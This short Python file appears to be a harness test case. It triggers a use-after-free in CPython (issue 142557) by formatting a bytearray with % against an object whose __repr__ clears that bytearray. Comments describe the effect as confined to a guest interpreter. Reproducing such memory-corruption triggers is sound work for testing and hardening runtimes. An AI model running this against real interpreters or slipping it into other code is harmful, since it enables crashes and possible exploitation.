# attack: bytearray % object, whose __repr__ clears the bytearray (CPython issue 142557)
# fence: a use after free inside the guest: deterministic, and gone with the call
# step: deploy attack [] => *
class Evil:
    def __repr__(self):
        victim.clear()
        keep.append(b"Z" * 60)
        return "x"


keep = []
victim = bytearray(b"%r" + b"A" * 50)
finish(bytes(victim % Evil()))
